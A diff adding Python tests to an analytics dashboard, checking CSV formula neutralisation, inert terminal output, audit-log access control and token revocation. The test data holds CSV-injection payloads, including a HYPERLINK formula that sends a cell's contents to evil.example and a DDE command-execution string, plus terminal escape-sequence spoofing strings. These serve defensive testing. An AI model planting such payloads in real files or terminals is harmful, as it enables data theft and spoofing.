@@ -2,8 +2,10 @@
 
 from __future__ import annotations
 
+import csv
 import dataclasses
 import datetime as dt
+import io
 import json
 import re
 import urllib.parse
@@ -240,3 +242,145 @@ def test_five_thousand_versions_keep_every_tab_small(admin_server: InThreadServe
         filtered = browser.get(f"/apps/{GOLDEN_APP}?tab=versions&version={rare}")
         assert filtered.status_code == 200 and f'value="{rare}"' in filtered.text
         assert "more rows: export the CSV" in browser.get(f"/apps/{GOLDEN_APP}?tab=versions").text
+
+
+# -- CSV exports and terminal reports ----------------------------------------------------------------
+
+FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)", "\t=1", "\r=1"]
+
+
+def test_csv_exports_neutralise_formulas(admin_server: InThreadServer) -> None:
+    now = dt.datetime.now(dt.timezone.utc).replace(tzinfo=None) - dt.timedelta(hours=1)
+    records = [
+        dataclasses.replace(hostile_event(GOLDEN_APP, now, f"i{i}"), props=json.dumps({"command": command}))
+        for i, command in enumerate([*FORMULAS, "build", "-"])
+    ]
+    admin_server.store.write(records).result(timeout=30)
+    export = httpx.get(
+        f"{admin_server.url}/api/v1/apps/{GOLDEN_APP}/reports/commands.csv?days=7",
+        headers={"Authorization": f"Bearer {admin_server.token}"},
+    )
+    assert export.status_code == 200
+    header, *rows = list(csv.reader(io.StringIO(export.text, newline="")))
+    assert header == ["command", "runs", "installs"]
+    commands = {row[0]: row[1:] for row in rows}
+    assert set(commands) == {"'" + formula for formula in FORMULAS} | {"build", "'-"}
+    assert all(counts == ["1", "1"] for counts in commands.values()), "numbers are left as numbers"
+
+
+TERMINAL_ATTACKS = [
+    "\x1b]8;;http://evil.example\x1b\\click me\x1b]8;;\x1b\\",  # an OSC 8 hyperlink
+    "\x1b[2J\x1b[31mcleared",  # clear the screen, then red
+    "[link=http://evil.example]markup link[/link]",
+    "[red]red[/red] [bold]bold",
+    "fake\rOK",
+    "\u202eevil-to-the-right",
+]
+
+
+def report_with(values: list[str]) -> dict[str, Any]:
+    return {
+        "report": "commands",
+        "title": "Commands [blink]",
+        "app": "[red]app",
+        "start": "2026-11-01",
+        "end": "2026-11-28",
+        "columns": ["command", "runs"],
+        "rows": [{"command": value, "runs": 1} for value in values],
+        "latest": "[link=http://evil.example]9.9[/link]",
+    }
+
+
+@pytest.mark.parametrize("terminal", [False, True], ids=["plain", "terminal"])
+def test_terminal_reports_show_data_as_inert_text(terminal: bool) -> None:
+    from rich.console import Console
+
+    from footfall.server.terminal import print_report, print_summary
+
+    out = io.StringIO()
+    console = Console(file=out, width=300, force_terminal=terminal, color_system="truecolor" if terminal else None)
+    print_report(report_with(TERMINAL_ATTACKS), console)
+    summary = {
+        "app": "[red]app\x1b[5m",
+        "start": "2026-11-01",
+        "end": "2026-11-28",
+        "events": 3,
+        "installs": 1,
+        "runs": 1,
+        "per_day": [{"events": 3}],
+        "top_events": [{"name": attack, "events": 1} for attack in TERMINAL_ATTACKS],
+    }
+    print_summary(summary, console)
+    text = out.getvalue()
+    for sequence in ("\x1b]", "\x1b[2J", "\x1b[31m", "\x1b[5m", "\r", "\u202e"):
+        assert sequence not in text, repr(sequence)
+    assert "\\x1b]8;;http://evil.example" in text and "\\x1b[2J" in text and "\\u202e" in text
+    assert "[link=http://evil.example]markup link[/link]" in text and "[red]red[/red]" in text
+    assert "[red]app" in text and "Commands [blink]" in text
+    if not terminal:
+        assert "\x1b" not in text, "a console without colour prints no escape sequence at all"
+
+
+def test_csv_on_the_terminal_neutralises_formulas_and_controls(capsys: pytest.CaptureFixture[str]) -> None:
+    from footfall.server.terminal import print_csv
+
+    print_csv(["command", "runs"], [{"command": value, "runs": -1} for value in [*FORMULAS, *TERMINAL_ATTACKS]])
+    printed = capsys.readouterr().out
+    assert "\x1b" not in printed
+    header, *rows = list(csv.reader(io.StringIO(printed, newline="")))
+    assert header == ["command", "runs"]
+    assert all(row[1] == "-1" for row in rows), "numbers are left as numbers"
+    assert [row[0][0] for row in rows[: len(FORMULAS)]] == ["'"] * len(FORMULAS)
+    assert rows[len(FORMULAS)][0].startswith("\\x1b]8;;")
+
+
+# -- the audit log and API tokens in the dashboard -------------------------------------------------
+
+
+def test_admins_see_the_audit_log_and_others_get_403(admin_server: InThreadServer) -> None:
+    accounts = admin_server.app.state.context.accounts
+    accounts.add_user("viewer@example.org", PASSWORD, "viewer", GOLDEN_APP)
+    with httpx.Client(base_url=admin_server.url) as viewer:
+        log_in(viewer, "viewer@example.org")
+        assert 'href="/admin/audit"' not in viewer.get("/").text
+        refused = viewer.get("/admin/audit")
+        assert refused.status_code == 403 and "role_change" not in refused.text
+    assert httpx.get(admin_server.url + "/admin/audit").headers["location"].startswith("/login")
+    with httpx.Client(base_url=admin_server.url) as admin:
+        log_in(admin, ADMIN)
+        assert 'href="/admin/audit"' in admin.get("/").text
+        page = admin.get("/admin/audit")
+    assert page.status_code == 200
+    actions = re.findall(r'<tr data-action="([^"]+)">', page.text)
+    assert actions[:2] == ["login", "login"] and "role_change" in actions, "newest first"
+    assert "viewer@example.org is viewer" in page.text
+
+
+def test_an_account_revokes_its_own_tokens_and_no_one_elses(admin_server: InThreadServer) -> None:
+    accounts = admin_server.app.state.context.accounts
+    accounts.add_user("owner@example.org", PASSWORD, "owner", GOLDEN_APP)
+    accounts.add_user("other@example.org", PASSWORD, "owner", GOLDEN_APP)
+    mine = accounts.create_token("owner@example.org", name="<b>laptop</b>")
+    theirs = accounts.create_token("other@example.org", name="ci")
+    their_id = accounts.list_tokens("other@example.org")[0].id
+    (my_id,) = [t.id for t in accounts.list_tokens("owner@example.org")]
+    api = f"{admin_server.url}/api/v1/apps"
+    assert httpx.get(api, headers={"Authorization": f"Bearer {mine}"}).status_code == 200
+    with httpx.Client(base_url=admin_server.url) as owner:
+        csrf = log_in(owner, "owner@example.org")
+        page = owner.get("/account")
+        assert f'data-token="{my_id}"' in page.text and their_id not in page.text
+        assert "&lt;b&gt;laptop&lt;/b&gt;" in page.text
+        assert owner.post(f"/account/tokens/{my_id}/revoke", data={"csrf": "forged"}).status_code == 403
+        assert owner.post(f"/account/tokens/{their_id}/revoke", data={"csrf": csrf}).status_code == 404
+        revoked = owner.post(f"/account/tokens/{my_id}/revoke", data={"csrf": csrf})
+        assert revoked.status_code == 303 and revoked.headers["location"] == "/account"
+        assert f'data-token="{my_id}"' not in owner.get("/account").text
+    assert httpx.get(api, headers={"Authorization": f"Bearer {mine}"}).status_code == 401
+    assert httpx.get(api, headers={"Authorization": f"Bearer {theirs}"}).status_code == 200
+    with httpx.Client(base_url=admin_server.url) as admin:
+        csrf = log_in(admin, ADMIN)
+        assert f'data-token="{their_id}"' in admin.get("/account").text, "an admin sees every account's tokens"
+        assert admin.post(f"/account/tokens/{their_id}/revoke", data={"csrf": csrf}).status_code == 303
+    assert httpx.get(api, headers={"Authorization": f"Bearer {theirs}"}).status_code == 401
+    assert ("token_revoke", "owner@example.org") in {(e.action, e.actor) for e in accounts.audit_log()}
